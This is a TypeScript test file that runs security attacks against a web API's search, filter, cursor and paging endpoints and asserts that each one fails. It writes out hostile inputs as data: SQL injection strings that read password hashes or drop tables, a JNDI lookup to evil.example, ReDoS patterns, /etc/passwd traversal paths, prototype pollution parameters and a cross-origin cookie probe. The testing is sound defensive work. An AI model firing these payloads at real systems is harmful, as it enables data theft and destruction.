import { expect } from 'vitest';

import type { Attack } from './attack.ts';
import { itemsOf, type Reply } from './reply.ts';
import type { Stage } from './stage.ts';

const against = 'search';
/** Whoever sees everything: what they do not find is not there. */
const as = 'admin';
const LISTS = ['objects', 'units', 'platforms', 'accounts', 'account-requests', 'points', 'devices'] as const;

const everywhere = (stage: Stage, query: string): Promise<readonly Reply[]> =>
  stage.each(LISTS, (list) => stage.send(`/api/v1/${list}?${query}`, { as }));

async function searchAll(stage: Stage, texts: readonly string[]): Promise<readonly Reply[]> {
  const found: Reply[] = [];
  for (const text of texts) found.push(...(await everywhere(stage, `search=${encodeURIComponent(text)}`)));
  return found;
}

const nothing = (_stage: Stage, replies: readonly Reply[]): void =>
  expect(replies.flatMap((reply) => itemsOf(reply))).toEqual([]);

/** At the lists, their filters and pages. */
export const SEARCH_ATTACKS: readonly Attack[] = [
  {
    name: 'wildcards are to find everything: they mean themselves',
    against,
    kind: 'injection',
    run: (stage) => searchAll(stage, ['%', '_', '%%%', 'hx%gas', '\\', '\\%', '*']),
    expect: '200',
    effect: nothing,
  },
  {
    name: 'SQL is to make the condition true, to read the passwords, to drop tables',
    against,
    kind: 'injection',
    run: (stage) =>
      searchAll(stage, [
        `' or 1=1 --`,
        `%' or '1'='1`,
        `') union select password_hash from account --`,
        `'; drop table unit; --`,
        `$1`,
        `\${jndi:ldap://evil.example}`,
      ]),
    expect: '200',
    effect: nothing,
  },
  {
    name: 'patterns that keep a matcher busy, and formatting marks',
    against,
    kind: 'injection',
    run: (stage) => searchAll(stage, ['(a+)+$', '(.*)*\\1', '[[:alpha:]]{9999}', '%s%n%1$L', '\u0007\u202E']),
    expect: '200',
    effect: nothing,
  },
  {
    name: 'SQL in the filters beside the text',
    against,
    kind: 'injection',
    run: async (stage) => {
      const bad = encodeURIComponent(`x' or 1=1`);
      const paths = [
        `objects?town=${bad}`,
        `objects?unit=${bad}`,
        `units?platform=${bad}`,
        `accounts?platform=${bad}`,
      ];
      return stage.each([...paths, `platforms?parent=${bad}`], (path) =>
        stage.send(`/api/v1/${path}`, { as }),
      );
    },
    expect: '200',
    effect: nothing,
  },
  {
    name: 'SQL where a word of a closed list is asked for',
    against,
    kind: 'injection',
    run: async (stage) => {
      const bad = encodeURIComponent(`x' or 1=1`);
      const paths = [
        `objects?scenario=${bad}`,
        `units?kind=${bad}`,
        `accounts?role=${bad}`,
        `accounts?state=${bad}`,
      ];
      return stage.each(paths, (path) => stage.send(`/api/v1/${path}`, { as }));
    },
    expect: '400 input.invalid',
  },
  {
    name: 'records of others are looked for by their exact names, codes, units and scenarios',
    against,
    kind: 'guessing',
    run: (stage) => {
      const paths = [
        'objects?search=hx-gas',
        'objects?scenario=GAS',
        'objects?unit=hx-gas',
        'units?search=hx-gas',
      ];
      const more = [
        'units?platform=GAS',
        'points?search=hx-gas',
        'devices?search=hx-gas',
        'accounts?search=gas.admin',
      ];
      return stage.each([...paths, ...more], (path) => stage.send(`/api/v1/${path}`, { as: 'flood.admin' }));
    },
    expect: '200',
    effect: nothing,
  },
  {
    name: 'a record of others is asked for by its number: the answer is that of one that never was',
    against,
    kind: 'guessing',
    run: async (stage) => {
      const ids = await Promise.all(
        ['objects', 'units'].map(
          async (list) => itemsOf(await stage.send(`/api/v1/${list}?search=hx-gas`, { as }))[0]?.['id'],
        ),
      );
      return [
        await stage.send(`/api/v1/objects/${String(ids[0])}`, { as: 'flood.admin' }),
        await stage.send('/api/v1/objects/2147483647', { as: 'flood.admin' }),
        await stage.post(
          `/api/v1/units/${String(ids[1])}/reveal`,
          { reason: '查看电话' },
          { as: 'flood.admin' },
        ),
        await stage.post('/api/v1/units/2147483647/reveal', { reason: '查看电话' }, { as: 'flood.admin' }),
      ];
    },
    expect: '404 record.not-found',
    effect: (_stage, replies) => {
      const words = replies.map(({ json }) => (json as { detail: string }).detail.replaceAll(/\d+/gu, 'n'));
      expect([words[0], words[2]]).toEqual([words[1], words[3]]);
      expect(replies.map(({ text }) => text).join()).not.toContain('13912345678');
    },
  },
  {
    name: 'the audit is searched by somebody who may not read it, and phones by those who may not see them',
    against,
    kind: 'guessing',
    run: async (stage) => [
      await stage.send('/api/v1/audit?actor=admin', { as: 'flood.admin' }),
      await stage.send('/api/v1/audit/export', { as }),
      await stage.send('/api/v1/units?search=13912345678', { as }),
    ],
    expect: ['403 access.denied', '403 access.denied', '200'],
    effect: (_stage, replies) => expect(itemsOf(replies[2])).toEqual([]),
  },
  {
    name: 'a cursor is made up, carries SQL, or is another list’s',
    against,
    kind: 'forgery',
    run: (stage) => {
      const cursors = [
        'rubbish',
        '-1',
        "1' or '1'='1",
        '1;drop table unit',
        '1763856000000_7',
        '9'.repeat(16),
        '0x10',
        ' 1',
      ];
      return stage.each(cursors, (after) =>
        stage.send(`/api/v1/objects?after=${encodeURIComponent(after)}`, { as }),
      );
    },
    expect: '400 input.invalid',
  },
  {
    name: 'a cursor of whoever sees more is to open what lies outside',
    against,
    kind: 'forgery',
    run: async (stage) => {
      const [other] = itemsOf(await stage.send('/api/v1/objects?search=hx-gas', { as }));
      const before = Number(other?.['id']) - 1;
      return [await stage.send(`/api/v1/objects?after=${before}&limit=1`, { as: 'flood.admin' })];
    },
    expect: '200',
    effect: (_stage, [reply]) => expect(reply?.text).not.toContain('hx-gas'),
  },
  {
    name: 'pages of nothing, of a thousand million, of NaN, with SQL behind the number',
    against,
    kind: 'oversized',
    run: (stage) =>
      stage.each(['0', '-1', '501', '1e9', '10;%20drop', 'NaN', '1.5', 'Infinity', ''], (limit) =>
        stage.send(`/api/v1/objects?limit=${limit}`, { as }),
      ),
    expect: '400 input.invalid',
  },
  {
    name: 'a text longer than any name, and an address longer than a line may be',
    against,
    kind: 'oversized',
    run: async (stage) => [
      ...(await everywhere(stage, `search=${'x'.repeat(101)}`)),
      await stage.send(`/api/v1/objects?search=${'x'.repeat(12_000)}`, { as }),
      await stage.raw(`GET /api/v1/objects?search=${'x'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`),
    ],
    expect: [...LISTS.map(() => '400 input.invalid' as const), '400 input.invalid', '413 input.too-large'],
  },
  {
    name: 'NUL, and parameters that come twice',
    against,
    kind: 'malformed',
    run: async (stage) => [
      ...(await everywhere(stage, 'search=%00')),
      ...(await everywhere(stage, 'search=a&search=b')),
      await stage.send('/api/v1/objects?after=1&after=2', { as }),
    ],
    expect: '400 input.invalid',
  },
  {
    name: 'half a surrogate pair, letters of too many bytes and broken percent signs',
    against,
    kind: 'malformed',
    run: async (stage) => {
      const broken: Reply[] = [];
      for (const text of ['%ED%A0%80', '%C0%AF', '%zz', '%', '%E4%BD', '%u0041'])
        broken.push(...(await everywhere(stage, `search=${text}`)));
      return broken;
    },
    expect: '200',
    effect: nothing,
  },
  {
    name: 'addresses whose path cannot be decoded, or leads up and out',
    against,
    kind: 'malformed',
    run: async (stage) => {
      const get = (path: string): Promise<Reply> =>
        stage.raw(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      return [
        await get('/api/v1/objects/%zz'),
        await get('/api/v1/objects/%ED%A0%80'),
        await get('/assets/..%2f..%2f..%2fetc/passwd'),
        await get('/api/v1/..%2f..%2fetc%2fpasswd'),
      ];
    },
    expect: ['400 input.invalid', '400 input.invalid', '404 route.not-found', '404 route.not-found'],
  },
  {
    name: 'parameters that were never offered: another’s rights, all places, prototypes, an order with SQL',
    against,
    kind: 'mass-assignment',
    run: async (stage) => {
      const more =
        'as=admin&account=1&scope=all&platform=PD&role=system-admin&order=id;drop&__proto__[limit]=1';
      return [
        await stage.send('/api/v1/objects', { as: 'flood.admin' }),
        await stage.send(`/api/v1/objects?${more}&search[$ne]=x&constructor[prototype][search]=x`, {
          as: 'flood.admin',
        }),
      ];
    },
    expect: '200',
    effect: (_stage, [plain, hostile]) => {
      expect(itemsOf(hostile)).toEqual(itemsOf(plain));
      expect(itemsOf(plain).length).toBeGreaterThan(0);
    },
  },
  {
    name: 'a foreign page reads with the victim’s cookie: it may be asked, but no script of theirs sees the answer',
    against,
    kind: 'csrf',
    run: (stage) =>
      stage.each(['', '?callback=steal', '?jsonp=steal'], (query) =>
        stage.send(`/api/v1/objects${query}`, {
          cookieOf: 'flood.admin',
          headers: { origin: 'https://evil.example' },
        }),
      ),
    expect: '200',
    effect: (_stage, replies) => {
      for (const { headers, text } of replies) {
        expect(headers.get('access-control-allow-origin')).toBeNull();
        expect(text.startsWith('{"items":')).toBe(true);
      }
    },
  },
];
